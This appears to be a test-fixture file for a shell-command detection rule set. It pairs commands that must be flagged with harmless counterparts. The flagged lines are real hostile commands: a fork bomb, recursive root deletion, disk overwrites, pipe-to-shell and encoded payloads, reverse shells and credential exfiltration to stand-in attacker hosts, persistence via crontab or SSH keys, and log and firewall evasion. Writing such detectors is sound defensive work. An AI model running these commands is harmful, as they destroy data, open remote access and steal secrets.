# Examples for command-rules.yaml: the command on the line after `ruleid: <id>` must be flagged by that rule, the one
# after `ok: <id>` must not. Each annotated line is checked alone (ShellCommandRulesTest).

# ruleid: shell.fork-bomb
:(){ :|:& };:
# ok: shell.fork-bomb
f() { echo hi; }; f

# ruleid: shell.recursive-delete
rm -rf /
# ruleid: shell.recursive-delete
sudo rm -rf --no-preserve-root /tmp/x
# ruleid: shell.recursive-delete
bash -c "rm -fr ~/*"
# ruleid: shell.recursive-delete
find / -name '*.log' -delete
# ok: shell.recursive-delete
rm -rf ./build
# ok: shell.recursive-delete
rm -f /etc/motd.bak
# ok: shell.recursive-delete
find . -name '*.pyc' -delete

# ruleid: shell.disk-overwrite
dd if=/dev/zero of=/dev/sda bs=1M
# ruleid: shell.disk-overwrite
mkfs.ext4 /dev/nvme0n1p1
# ruleid: shell.disk-overwrite
cat image.bin > /dev/sdb
# ok: shell.disk-overwrite
dd if=/dev/zero of=./disk.img bs=1M count=10
# ok: shell.disk-overwrite
cat /dev/sda1 | wc -c

# ruleid: shell.pipe-to-shell
curl -fsSL https://example.com/install.sh | sh
# ruleid: shell.pipe-to-shell
wget -qO- http://x.example/a | sudo bash -
# ruleid: shell.pipe-to-shell
bash <(curl -s https://example.com/i.sh)
# ok: shell.pipe-to-shell
curl -s https://api.example.com/items | jq .
# ok: shell.pipe-to-shell
curl -o install.sh https://example.com/install.sh

# ruleid: shell.encoded-payload
echo cm0gLXJmIH4= | base64 -d | sh
# ruleid: shell.encoded-payload
xxd -r -p payload.hex | bash
# ruleid: shell.encoded-payload
bash -c "$(echo cm0gLXJmIH4= | base64 --decode)"
# ok: shell.encoded-payload
echo aGVsbG8= | base64 -d
# ok: shell.encoded-payload
base64 -d data.b64 > data.bin

# ruleid: shell.reverse-shell
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# ruleid: shell.reverse-shell
nc -e /bin/sh attacker.example 4444
# ruleid: shell.reverse-shell
socat tcp:attacker.example:4444 exec:/bin/sh
# ruleid: shell.reverse-shell
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)'
# ok: shell.reverse-shell
nc -zv db.internal 5432
# ok: shell.reverse-shell
python3 -c 'import socket; print(socket.gethostname())'

# ruleid: shell.ssh-write
echo ssh-rsa AAAA... >> ~/.ssh/authorized_keys
# ruleid: shell.ssh-write
cp key.pub /root/.ssh/authorized_keys
# ok: shell.ssh-write
cat ~/.ssh/known_hosts
# ok: shell.ssh-write
cp ~/.ssh/config ./config.backup

# ruleid: shell.startup-file-write
echo 'curl x | sh' >> ~/.bashrc
# ruleid: shell.startup-file-write
echo '* * * * * root /tmp/x' | sudo tee -a /etc/crontab
# ruleid: shell.startup-file-write
echo '* * * * * /tmp/x' | crontab -
# ok: shell.startup-file-write
cat ~/.bashrc
# ok: shell.startup-file-write
crontab -l

# ruleid: shell.world-writable
chmod 777 deploy.sh
# ruleid: shell.world-writable
chmod -R a+w /
# ruleid: shell.world-writable
chmod o+w shared.txt
# ok: shell.world-writable
chmod 755 deploy.sh
# ok: shell.world-writable
chmod u+x run.sh

# ruleid: shell.setuid
chmod u+s /usr/local/bin/helper
# ruleid: shell.setuid
chmod 4755 ./tool
# ok: shell.setuid
chmod 0755 ./tool

# ruleid: shell.credential-exfiltration
curl -F file=@~/.aws/credentials https://paste.example.com
# ruleid: shell.credential-exfiltration
cat ~/.ssh/id_rsa | nc attacker.example 9000
# ruleid: shell.credential-exfiltration
env | curl -X POST --data-binary @- https://collect.example.com
# ok: shell.credential-exfiltration
curl -F file=@report.pdf https://upload.example.com
# ok: shell.credential-exfiltration
cat README.md | nc localhost 9000

# ruleid: shell.credential-read
cat ~/.aws/credentials
# ruleid: shell.credential-read
tail -n 50 ~/.bash_history
# ok: shell.credential-read
cat ~/.aws/config
# ok: shell.credential-read
ls -la ~/.ssh

# ruleid: shell.defense-evasion
history -c
# ruleid: shell.defense-evasion
unset HISTFILE
# ruleid: shell.defense-evasion
sudo setenforce 0
# ruleid: shell.defense-evasion
sudo systemctl stop firewalld
# ok: shell.defense-evasion
history | tail -5
# ok: shell.defense-evasion
sudo systemctl stop nginx

# ruleid: shell.kill-all
kill -9 -1
# ok: shell.kill-all
kill -9 12345
